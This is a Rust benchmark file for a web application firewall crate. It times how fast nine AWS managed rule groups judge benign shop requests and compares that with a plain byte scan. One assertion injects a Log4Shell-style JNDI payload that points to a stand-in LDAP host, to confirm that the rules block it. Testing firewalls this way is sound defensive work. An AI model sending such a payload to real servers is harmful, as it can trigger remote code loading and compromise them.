//! How long a verdict takes with every managed rule group that needs no list, on requests that pass, so that every rule looks at them. The floor is a
//! scan of the same bytes for one byte that is not there. `cargo bench -p waf`.

use std::net::IpAddr;

use base::Timestamp;
use waf::{
    Action, Matcher, Nowhere, Options, References, Request, SearchStrings, Sliding, WebAcl, World,
};

const GROUPS: [&str; 9] = [
    "AWSManagedRulesCommonRuleSet",
    "AWSManagedRulesKnownBadInputsRuleSet",
    "AWSManagedRulesSQLiRuleSet",
    "AWSManagedRulesLinuxRuleSet",
    "AWSManagedRulesUnixRuleSet",
    "AWSManagedRulesWindowsRuleSet",
    "AWSManagedRulesPHPRuleSet",
    "AWSManagedRulesWordPressRuleSet",
    "AWSManagedRulesAdminProtectionRuleSet",
];
const AGENT: &[u8] = b"Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0";

fn main() {
    divan::main();
}

/// Requests by their body in bytes; nothing for a GET. 64 KiB is judged with the default limit of inspection and whole.
const CASES: [(usize, usize); 4] =
    [(0, 16 << 10), (1 << 10, 16 << 10), (64 << 10, 16 << 10), (64 << 10, 64 << 10)];

#[divan::bench(args = CASES)]
fn managed_groups(bencher: divan::Bencher<'_, '_>, (size, inspected): (usize, usize)) {
    let matcher = matcher(inspected);
    let body = json(size);
    let rates = Sliding::new(100);
    let request = request(&body);
    let world =
        World { now: Timestamp::from_millis(0), rates: &rates, places: &Nowhere, token_key: None };
    let verdict = matcher.evaluate(&request, &world);
    assert_eq!(verdict.action, Action::Allow, "{:?}", verdict.groups);
    // A rule that ends the attack shows that the rules run.
    let attack = request.clone().with_header("Referer", b"${jndi:ldap://x.example/a}");
    assert!(matches!(matcher.evaluate(&attack, &world).action, Action::Block(_)));
    bencher.bench_local(|| matcher.evaluate(divan::black_box(&request), &world));
}

#[divan::bench(args = CASES)]
fn floor(bencher: divan::Bencher<'_, '_>, (size, inspected): (usize, usize)) {
    let body = json(size);
    let request = request(&body);
    bencher.bench_local(|| {
        let request = divan::black_box(&request);
        let body = &request.body[..request.body.len().min(inspected)];
        let texts = request.headers.iter().map(|(_, value)| *value).chain([
            request.path,
            request.query,
            body,
        ]);
        texts.filter(|text| memchr::memchr(b'\x01', text).is_some()).count()
    });
}

#[divan::bench]
fn compile(bencher: divan::Bencher<'_, '_>) {
    bencher.bench_local(|| matcher(16 << 10));
}

fn matcher(body_bytes: usize) -> Matcher {
    let metric =
        r#"{"SampledRequestsEnabled":false,"CloudWatchMetricsEnabled":false,"MetricName":"m"}"#;
    let rules = GROUPS.iter().enumerate().map(|(priority, name)| {
        // Bodies of more than 8 KiB are what is measured here.
        let large = match *name {
            "AWSManagedRulesCommonRuleSet" => {
                r#","RuleActionOverrides":[{"Name":"SizeRestrictions_BODY","ActionToUse":{"Count":{}}}]"#
            }
            _ => "",
        };
        format!(
            r#"{{"Name":"{name}","Priority":{priority},"OverrideAction":{{"None":{{}}}},"VisibilityConfig":{metric},
            "Statement":{{"ManagedRuleGroupStatement":{{"VendorName":"AWS","Name":"{name}"{large}}}}}}}"#
        )
    });
    let rules = rules.collect::<Vec<_>>().join(",");
    let text = format!(
        r#"{{"Name":"w","DefaultAction":{{"Allow":{{}}}},"VisibilityConfig":{metric},"Rules":[{rules}]}}"#
    );
    let acl = WebAcl::parse(&text, SearchStrings::Base64).expect("a Web ACL");
    let options = Options { body_bytes, ..Options::default() };
    Matcher::compile(&acl, &References::default(), &options).expect("it compiles")
}

fn request(body: &[u8]) -> Request<'_> {
    let method = if body.is_empty() { "GET" } else { "POST" };
    let target = b"/shop/items/4711?page=2&sort=price&q=blue+running+shoes&lang=ko";
    let mut request = Request::new(IpAddr::from([192, 0, 2, 1]), method, target)
        .with_header("Host", b"shop.example")
        .with_header("User-Agent", AGENT)
        .with_header("Accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
        .with_header("Accept-Language", b"ko-KR,ko;q=0.8,en-US;q=0.5,en;q=0.3")
        .with_header("Accept-Encoding", b"gzip, deflate, br")
        .with_header("Referer", b"https://shop.example/shop/")
        .with_header("Cookie", b"session=0f3a9c2be1d84c55a7c9; theme=dark; cart=3");
    if !body.is_empty() {
        request = request.with_header("Content-Type", b"application/json").with_body(body);
    }
    request
}

/// Orders as an application would post them, of about so many bytes.
fn json(size: usize) -> Vec<u8> {
    if size == 0 {
        return Vec::new();
    }
    let mut out = String::from("{\"items\":[");
    let mut number = 0_u32;
    while out.len() < size.saturating_sub(180) {
        if number > 0 {
            out.push(',');
        }
        let item = format!(
            "{{\"id\":{number},\"sku\":\"A-{:05}\",\"name\":\"Running shoe, blue ({number})\",\"price\":59.90,\
             \"note\":\"문 앞에 놓아 주세요 - it's fine\"}}",
            number * 7919 % 100_000
        );
        out.push_str(&item);
        number += 1;
    }
    out.push_str("]}");
    out.into_bytes()
}
